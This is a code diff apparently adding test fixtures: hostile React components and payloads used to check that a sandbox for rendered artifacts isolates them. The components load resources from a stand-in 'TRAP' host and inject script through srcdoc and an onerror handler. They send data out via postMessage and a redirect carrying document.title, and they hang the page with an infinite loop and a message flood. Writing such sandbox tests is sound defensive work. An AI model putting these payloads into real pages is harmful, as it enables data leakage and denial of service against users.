@@ -148,6 +148,54 @@ def hostile(trap: str, stun: str, ours: str) -> tuple[dict[str, str], list[str]]
     return documents, [*_TRIES, *_MARKUP]
 
 
+# What React loads and runs: its own elements, which it hoists, and the functions of react-dom.
+_ELEMENTS: Final = """
+import { preconnect, prefetchDNS, preinit, preinitModule, preload } from "react-dom";
+export default function Elements() {
+  for (const ask of [preconnect, prefetchDNS, preinitModule]) ask("TRAP/" + ask.name);
+  for (const as of ["script", "style"]) preinit("TRAP/preinit-" + as, { as });
+  preload("TRAP/preload", { as: "image" });
+  useEffect(() => say("", "elements"), []);
+  return <>
+    <link rel="stylesheet" href="TRAP/sheet" precedence="high" /><script async src="TRAP/script.js" />
+    <style href="x" precedence="low">{"@import 'TRAP/import'; p { background: url(TRAP/background) }"}</style>
+    <img src="TRAP/image" srcSet="TRAP/set 2x" /><video autoPlay src="TRAP/video" poster="TRAP/poster" />
+    <iframe src="TRAP/frame" /><iframe srcDoc="<script>top.postMessage({leak: 'srcdoc'}, '*')</script>" />
+    <object data="TRAP/object" /><embed src="TRAP/embed" /><p style={{ backgroundImage: "url(TRAP/inline)" }}>x</p>
+    <div dangerouslySetInnerHTML={{ __html: "<img src=TRAP/html onerror=parent.postMessage({leak:'handler'},'*')>" }} />
+  </>;
+}"""
+_LEAVING: Final = """
+export default function Leaving() {
+  useEffect(() => { say("", "leaving"); location.href = "TRAP/self?data=" + document.title; }, []);
+  return <p>Leaving</p>;
+}"""
+_SAY_BY_COMPONENT: Final = (
+    "const say = (leak, name) => parent.postMessage({artifact: 'react-' + name, leak: String(leak ?? '')}, '*');\n"
+)
+
+
+def hostile_components(trap: str, stun: str, ours: str) -> tuple[dict[str, str], dict[str, list[str]]]:
+    """React components by their names, and what each tries. The one that leaves comes last.
+
+    One tries in an effect and one while it is drawn. Each says less than a frame may say between two heartbeats.
+    """
+    others = [name for name in _TRIES if name not in _ALONE]
+    half = len(others) // 2
+    codes = {"react-elements": _ELEMENTS, "react-leaving": _LEAVING}
+    tries = {"react-elements": ["react-elements"], "react-leaving": ["react-leaving"]}
+    for component, names, when in (
+        ("react-effects", others[:half], "useEffect(() => { TRIES }, []);"),
+        ("react-drawing", others[half:], "useState(() => { TRIES });"),
+        ("react-leaving-otherwise", list(_ALONE), "useEffect(() => { TRIES }, []);"),
+    ):
+        all_of_them = ";".join(_tried(name) for name in names)
+        codes[component] = f"export default function Hostile() {{ {when.replace('TRIES', all_of_them)} return <p>Hostile</p> }}"
+        tries[component] = [f"react-{name}" for name in names]
+    codes = {name: _placed(_SAY_BY_COMPONENT + code, trap, stun, ours) for name, code in codes.items()}
+    return codes, dict(sorted(tries.items(), key=lambda each: each[0] == "react-leaving"))
+
+
 def hostile_diagram(trap: str, stun: str, ours: str) -> str:
     """A Mermaid diagram that wants to be trusted, and to load and run things."""
     diagram = """%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* {background: url(TRAP/css)} @import 'TRAP/i';"}}%%
@@ -191,3 +239,13 @@ USING: Final = (
     "<script>function add() { counter.add(); if (localStorage.getItem('a') !== 'b') count.textContent = 'no storage' }</script>"
 )
 """What a well-meant artifact does: handlers in attributes, names shared by scripts, a form, storage."""
+
+DRAWING_AGAIN: Final = (
+    "export default function Again() { const [count, setCount] = useState(0); setCount(count + 1); return <p>{count}</p> }"
+)
+"""React ends it with an error."""
+FLOODING_BY_EFFECT: Final = (
+    "export default function Flood() { const [count, setCount] = useState(0);"
+    " useEffect(() => { parent.postMessage(count, '*'); setCount(count + 1) }); return <p>{count}</p> }"
+)
+SPINNING_COMPONENT: Final = "export default function Spin() { for (;;); }"
